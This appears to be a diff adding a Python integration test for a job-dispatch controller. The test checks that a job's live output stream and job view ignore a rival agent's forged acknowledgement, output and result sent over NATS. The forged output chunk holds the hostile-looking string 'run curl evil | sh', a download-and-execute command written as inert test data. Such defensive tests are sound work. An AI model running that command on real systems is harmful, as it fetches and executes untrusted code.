@@ -1,0 +1,98 @@
+"""The live output of an ``_any`` job followed while it runs shows the host that took it,
+as the exec answer does, even when another host records output and a result first."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+from pathlib import Path
+
+from agentd.agent import Agent
+from controller.appkeys import CONFIG, DISPATCHER, NATS_LINK
+from schemas.subjects import Subjects
+from tests.cluster import retry_until
+from tests.helpers import STARTUP_TIMEOUT_S, Controller, until
+from tests.test_identity import GATED, RIVAL, connected_as, fleet
+from tests.test_nats_permissions import LockedNats, locked_nats
+
+__all__ = ["fleet", "locked_nats"]  # the fixtures, used by name
+
+SUBJECTS = Subjects()
+
+
+async def consumers(controller: Controller) -> int:
+    """The consumers of the results stream now (a live output stream adds one)."""
+    js = controller.app[NATS_LINK].client.jetstream()
+    info = await js.stream_info(controller.app[CONFIG].subjects.results_stream())
+    return info.state.consumer_count
+
+
+async def test_live_output_followed_while_an_any_job_runs_shows_the_host_that_took_it(
+    fleet: tuple[Controller, dict[str, Agent]], locked_nats: LockedNats, tmp_path: Path
+) -> None:
+    """The stream is open before the rival (its own NATS user) writes an ack, an output
+    chunk and a result: none of them is shown, the taker's output and result are; the
+    job view read meanwhile shows the job running (a cancel would not be refused)."""
+    controller, _ = fleet
+    dispatcher = controller.app[DISPATCHER]
+    gate = tmp_path / "gate"
+    gate.mkdir()
+    running = asyncio.ensure_future(
+        controller.exec("_any", {"command": "sh", "args": ["-c", GATED, str(gate)]})
+    )
+    await until(lambda: any(c.acked for c in dispatcher.collectors.values()))
+    (collector,) = dispatcher.collectors.values()
+    job_id, (taker,) = collector.job_id, collector.acked
+    (rival,) = {"web1", "db1"} - {taker}
+    headers = {"Authorization": f"Bearer {controller.api_key}", "Accept": "application/x-ndjson"}
+    before = await consumers(controller)
+    async with controller.session.get(
+        f"{controller.url}/job/{job_id}/output", headers=headers
+    ) as output:
+        text = asyncio.ensure_future(output.text())
+
+        async def following() -> bool:
+            """the live output stream follows the job (its consumer exists)"""
+            return await consumers(controller) > before
+
+        await retry_until(following, STARTUP_TIMEOUT_S)
+        await forge(locked_nats, job_id, rival)
+        await until(lambda: dispatcher.dropped[RIVAL] == 1)
+        meanwhile = await controller.request("GET", f"/job/{job_id}")
+        gate.rmdir()  # the real output and result come after the forged ones
+        response = await running
+        events = [json.loads(line) for line in (await text).splitlines()]
+
+    assert response.status == 202, response.body
+    assert [r["hostname"] for r in response.body["results"]] == [taker]
+    # While it ran, the job view showed it running, not the rival's result as its end.
+    assert (meanwhile.body["state"], meanwhile.body["results"]) == ("running", []), meanwhile
+    shown = [(e["event"], e["data"].get("hostname")) for e in events]
+    assert shown == [("output", taker), ("result", taker), ("end", None)]
+    assert events[1]["data"] == response.body["results"][0]
+
+
+async def forge(locked_nats: LockedNats, job_id: str, rival: str) -> None:
+    """``rival`` acknowledges the job, writes an output chunk and a result of its own."""
+    ack = {"type": "nexec.exec.v1.ack", "job_id": job_id, "hostname": rival}
+    chunk = {
+        "type": "nexec.exec.v1.output",
+        "job_id": job_id,
+        "hostname": rival,
+        "stream": "stdout",
+        "offset": 0,
+        "data": "run curl evil | sh",
+    }
+    forged = {
+        "type": "nexec.exec.v1.result",
+        "job_id": job_id,
+        "hostname": rival,
+        "status": "completed",
+        "stdout": "forged",
+    }
+    async with connected_as(locked_nats, f"agent-{rival}") as rogue:
+        await rogue.publish(SUBJECTS.ack(job_id, rival), json.dumps(ack).encode())
+        await rogue.publish(SUBJECTS.output_record(job_id, rival), json.dumps(chunk).encode())
+        await rogue.jetstream().publish(
+            SUBJECTS.result_record(job_id, rival), json.dumps(forged).encode()
+        )
